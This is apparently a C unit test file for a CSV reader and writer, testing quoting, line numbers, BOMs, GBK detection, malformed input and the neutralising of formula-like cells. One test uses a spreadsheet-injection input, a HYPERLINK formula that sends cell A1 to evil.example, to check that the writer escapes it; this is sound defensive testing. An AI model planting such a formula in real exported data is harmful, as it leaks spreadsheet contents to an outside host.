/* io/csv.c: RFC 4180 quoting, line numbers, BOM, CRLF, GBK detection and decoding. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <iconv.h>
#include <stdio.h>
#include <string.h>
#include "io/csv.h"

static FILE *memfile(const char *s, size_t n) {
    FILE *f = tmpfile();
    assert_non_null(f);
    assert_int_equal(fwrite(s, 1, n, f), n);
    rewind(f);
    return f;
}

static void expectRecord(csvReader *r, uint64_t line, size_t nfields, const char *const *fields) {
    assert_int_equal(csvNext(r), 1);
    assert_string_equal(r->bad, "");
    assert_int_equal(r->rec_line, line);
    assert_int_equal(r->nfields, nfields);
    for (size_t i = 0; i < nfields; i++) assert_string_equal(csvField(r, i, NULL), fields[i]);
}

static void test_quoting(void **state) {
    (void)state;
    const char text[] = "\xEF\xBB\xBF" "a,b,c\r\n"
                        "1,\"x,y\",\"say \"\"hi\"\"\"\r\n"
                        "\n"
                        "2,\"two\nlines\",\r\n"
                        "3,,last";
    FILE *f = memfile(text, sizeof text - 1);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, NULL), 0);
    assert_int_equal(r.enc, CSV_UTF8);
    expectRecord(&r, 1, 3, (const char *[]){"a", "b", "c"});
    expectRecord(&r, 2, 3, (const char *[]){"1", "x,y", "say \"hi\""});
    expectRecord(&r, 4, 3, (const char *[]){"2", "two\nlines", ""}); /* the blank line 3 is skipped */
    expectRecord(&r, 6, 3, (const char *[]){"3", "", "last"});
    assert_int_equal(csvNext(&r), 0);
    csvClose(&r);
    fclose(f);
}

static void test_malformed(void **state) {
    (void)state;
    const char text[] = "a,\"b\"x,c\nok,1\n\"never closed,2\n";
    FILE *f = memfile(text, sizeof text - 1);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, "utf-8"), 0);
    assert_int_equal(csvNext(&r), 1);
    assert_non_null(strstr(r.bad, "text after a closing quote"));
    assert_int_equal(csvNext(&r), 1);
    assert_string_equal(r.bad, "");
    assert_string_equal(csvField(&r, 0, NULL), "ok");
    assert_int_equal(csvNext(&r), 1);
    assert_non_null(strstr(r.bad, "unterminated"));
    assert_int_equal(csvNext(&r), 0);
    csvClose(&r);
    fclose(f);
}

static void test_gbk(void **state) {
    (void)state;
    /* Build a GBK file of many lines so that decoding crosses buffer boundaries. */
    char utf8[200000], gbk[200000];
    size_t n = 0;
    n += (size_t)snprintf(utf8 + n, sizeof utf8 - n, "统一社会信用代码,营业收入\n");
    for (int i = 0; i < 4000; i++) n += (size_t)snprintf(utf8 + n, sizeof utf8 - n, "大兴区第%d号,是\n", i);
    iconv_t cd = iconv_open("GB18030", "UTF-8");
    char *in = utf8, *out = gbk;
    size_t inleft = n, outleft = sizeof gbk;
    assert_int_not_equal(iconv(cd, &in, &inleft, &out, &outleft), (size_t)-1);
    iconv_close(cd);
    FILE *f = memfile(gbk, sizeof gbk - outleft);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, NULL), 0);
    assert_int_equal(r.enc, CSV_GB18030); /* detected: not valid UTF-8 */
    expectRecord(&r, 1, 2, (const char *[]){"统一社会信用代码", "营业收入"});
    char want[64];
    for (int i = 0; i < 4000; i++) {
        snprintf(want, sizeof want, "大兴区第%d号", i);
        expectRecord(&r, (uint64_t)i + 2, 2, (const char *[]){want, "是"});
    }
    assert_int_equal(csvNext(&r), 0);
    csvClose(&r);
    fclose(f);
    /* Forcing UTF-8 on GBK bytes still reads (fields are checked later); an
     * unknown encoding name is refused. */
    f = memfile("a\n", 2);
    assert_int_equal(csvOpen(&r, f, "latin-1"), -1);
    csvClose(&r);
    fclose(f);
}

static void test_undecodable(void **state) {
    (void)state;
    const char text[] = "a,b\n1,\x81\x30\n"; /* \x81\x30 is a truncated GB18030 four-byte sequence */
    FILE *f = memfile(text, sizeof text - 1);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, "gbk"), 0);
    int rc;
    while ((rc = csvNext(&r)) == 1) {}
    assert_true(rc < 0);
    assert_true(r.err[0] != '\0');
    csvClose(&r);
    fclose(f);
}

/* What csvPutField writes, csvNext reads back unchanged. */
static void test_put_field_round_trip(void **state) {
    (void)state;
    const char *fields[] = {"plain", "", "a,b", "say \"hi\"", "two\nlines", "兴华大街,1号", NULL};
    sbuf b;
    sbufInit(&b);
    csvPutField(&b, "plain");
    assert_string_equal(b.data, "plain");
    sbufClear(&b);
    csvPutField(&b, "say \"hi\"");
    assert_string_equal(b.data, "\"say \"\"hi\"\"\"");
    sbufClear(&b);
    for (int i = 0; i < 6; i++) {
        if (i) sbufPutc(&b, ',');
        csvPutField(&b, i == 1 ? NULL : fields[i]);
    }
    sbufPutc(&b, '\n');
    FILE *f = tmpfile();
    fwrite(b.data, 1, b.len, f);
    rewind(f);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, NULL), 0);
    assert_int_equal(csvNext(&r), 1);
    for (int i = 0; i < 6; i++) {
        size_t n;
        assert_string_equal(csvField(&r, (size_t)i, &n), fields[i]);
    }
    assert_int_equal(csvNext(&r), 0);
    csvClose(&r);
    fclose(f);
    sbufFree(&b);
}

/* Cells a spreadsheet would run as formulas come out as text (issue 8 finding 4). */
static void test_put_field_neutralises_formulas(void **state) {
    (void)state;
    const char *in[] = {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1", "-2", "@SUM(A1)", "\t=1+1",
                        "\r=1", "=1+1镇", "a=b", "1-2", "福顺-1"};
    const char *out[] = {"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"", "\"'+1\"", "\"'-2\"",
                         "\"'@SUM(A1)\"", "\"'\t=1+1\"", "\"'\r=1\"", "\"'=1+1镇\"", "a=b", "1-2", "福顺-1"};
    sbuf b;
    sbufInit(&b);
    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
        sbufClear(&b);
        csvPutField(&b, in[i]);
        assert_string_equal(b.data, out[i]);
        assert_int_equal(csvFormulaLike(in[i]), out[i][0] == '"');
    }
    sbufFree(&b);
}

/* Reads text (n bytes) and returns the first malformed record's reason, field and line. */
static void expectBad(const char *text, size_t n, const char *encoding, uint64_t line, size_t field, const char *why) {
    FILE *f = memfile(text, n);
    csvReader r;
    assert_int_equal(csvOpen(&r, f, encoding), 0);
    int k;
    while ((k = csvNext(&r)) == 1 && !r.bad[0]) {}
    assert_int_equal(k, 1);
    assert_non_null(strstr(r.bad, why));
    assert_int_equal(r.rec_line, line);
    assert_int_equal(r.bad_field, field);
    csvClose(&r);
    fclose(f);
}

/* Issue 8 findings 16, 17, 19: a quote never closed names the line it opened on;
 * bytes that are not UTF-8 past the detection sample, after a BOM, or malformed
 * sequences (overlong, surrogate) are refused per record; NUL and control
 * characters are refused, naming the field. */
static void test_text_checks(void **state) {
    (void)state;
    const char header_quote[] = "uscc,year,\"备注\n1,2,3\n4,5,6\n";
    expectBad(header_quote, sizeof header_quote - 1, NULL, 1, 2, "opened on line 1");
    const char bom_gbk[] = "\xEF\xBB\xBFuscc,name\nA,\xB8\xA3\xCB\xB3\n";
    expectBad(bom_gbk, sizeof bom_gbk - 1, NULL, 2, 1, "invalid UTF-8");
    const char garbage[] = "a,b\nx,\xc0\xaf\xff\xfe\n";
    expectBad(garbage, sizeof garbage - 1, "utf-8", 2, 1, "invalid UTF-8");
    const char surrogate[] = "a,b\n\xED\xA0\x80,1\n";
    expectBad(surrogate, sizeof surrogate - 1, "utf-8", 2, 0, "invalid UTF-8");
    const char nul[] = "a,b\nABC\0DEF,1\n";
    expectBad(nul, sizeof nul - 1, "utf-8", 2, 0, "U+0000");
    const char esc[] = "a,b\nok,x\x1b[31m\n";
    expectBad(esc, sizeof esc - 1, "utf-8", 2, 1, "U+001B");
    /* valid for the whole 64 KiB sample, then a stray byte: detected as UTF-8, the record is refused */
    static char big[70000];
    size_t n = 0;
    n += (size_t)sprintf(big, "a,b\n");
    while (n < 66000) n += (size_t)sprintf(big + n, "福顺,1\n");
    const uint64_t line = 1 + (uint64_t)(n - 4) / strlen("福顺,1\n") + 1;
    n += (size_t)sprintf(big + n, "x\xff,2\n");
    expectBad(big, n, NULL, line, 0, "invalid UTF-8");
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_quoting), cmocka_unit_test(test_malformed),
                                       cmocka_unit_test(test_gbk), cmocka_unit_test(test_undecodable),
                                       cmocka_unit_test(test_put_field_round_trip),
                                       cmocka_unit_test(test_put_field_neutralises_formulas),
                                       cmocka_unit_test(test_text_checks)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
